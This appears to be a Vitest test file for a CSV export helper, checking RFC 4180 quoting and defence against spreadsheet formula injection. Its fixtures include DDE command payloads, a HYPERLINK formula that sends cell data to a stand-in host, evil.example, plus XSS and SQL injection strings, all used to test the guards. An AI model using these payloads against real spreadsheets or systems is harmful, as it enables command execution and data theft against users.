import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { csvField, csvRecord, toCsv, UTF8_BOM } from './csv';

describe('csvField: RFC 4180 quoting', () => {
	it('leaves plain text alone', () => {
		expect(csvField('Cheapside')).toBe('Cheapside');
		expect(csvField('')).toBe('');
	});

	it('quotes fields with commas, quotes, CR or LF and doubles the quotes', () => {
		expect(csvField('On or near "X" Road')).toBe('"On or near ""X"" Road"');
		expect(csvField('a,b')).toBe('"a,b"');
		expect(csvField('line 1\nline 2')).toBe('"line 1\nline 2"');
		expect(csvField('line 1\r\nline 2')).toBe('"line 1\r\nline 2"');
	});

	it('writes numbers, bigints and booleans as they are, and nothing for null', () => {
		expect(csvField(-0.1)).toBe('-0.1');
		expect(csvField(-51.51234)).toBe('-51.51234');
		expect(csvField(0)).toBe('0');
		expect(csvField(622236751694118911n)).toBe('622236751694118911');
		expect(csvField(true)).toBe('true');
		expect(csvField(null)).toBe('');
		expect(csvField(undefined)).toBe('');
		expect(csvField(Number.NaN)).toBe('');
		expect(csvField(Number.POSITIVE_INFINITY)).toBe('');
	});
});

describe('csvField: formula injection (OWASP)', () => {
	it.each([
		['=1+1', "'=1+1"],
		["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
		["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
		['@SUM(1+1)', "'@SUM(1+1)"],
		['\t=1+1', "'\t=1+1"],
		['-0.1', "'-0.1"]
	])('prefixes %j with a single quote', (hostile, written) => {
		expect(csvField(hostile)).toBe(written);
	});

	it('guards and quotes a formula that also needs quoting', () => {
		const link = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")';
		expect(csvField(link)).toBe('"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Click me"")"');
		expect(csvField('\r=1+1')).toBe('"\'\r=1+1"');
	});

	it('leaves text that does not start a formula unchanged, markup and SQL included', () => {
		expect(csvField('<script>alert(1)</script>')).toBe('<script>alert(1)</script>');
		expect(csvField("'; DROP TABLE incidents;--")).toBe("'; DROP TABLE incidents;--");
		expect(csvField('a=1+1')).toBe('a=1+1');
		expect(csvField(' plain')).toBe(' plain');
	});
});

describe('toCsv', () => {
	const hostile = [
		'=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
		"+cmd|' /C calc'!A0",
		'@SUM(1+1)',
		'<script>alert(1)</script>',
		"'; DROP TABLE incidents;--",
		'first line\nsecond, "quoted" line'
	];

	it('ends every record with CRLF, header first', () => {
		expect(
			toCsv(
				['cell', 'n'],
				[
					['8a194ad30067fff', 3],
					['8a194ad3006ffff', '<5']
				]
			)
		).toBe('cell,n\r\n8a194ad30067fff,3\r\n8a194ad3006ffff,<5\r\n');
		expect(toCsv(['a'], [])).toBe('a\r\n');
	});

	it('reads back with an independent RFC 4180 parser: same number of records, text guarded', () => {
		const doc = UTF8_BOM + toCsv(['text', 'longitude'], [...hostile.map((h) => [h, -0.09216])]);
		const records = parse(doc, { bom: true, relax_quotes: false }) as string[][];
		expect(records).toHaveLength(hostile.length + 1);
		expect(records[0]).toEqual(['text', 'longitude']);
		expect(records.slice(1).map((r) => r[0])).toEqual([
			'\'=HYPERLINK("http://evil.example/?d="&A1,"Click me")',
			"'+cmd|' /C calc'!A0",
			"'@SUM(1+1)",
			'<script>alert(1)</script>',
			"'; DROP TABLE incidents;--",
			'first line\nsecond, "quoted" line'
		]);
		expect(records.slice(1).every((r) => r[1] === '-0.09216')).toBe(true);
		// No field a spreadsheet would evaluate.
		expect(records.flat().filter((f) => /^[=+@\t\r]/.test(f))).toEqual([]);
	});

	it('refuses a row whose width differs from the header', () => {
		expect(() => toCsv(['a', 'b'], [['only one']])).toThrow(RangeError);
	});

	it('csvRecord joins fields without a line end', () => {
		expect(csvRecord(['a,b', 1, null, '=x'])).toBe('"a,b",1,,\'=x');
	});
});
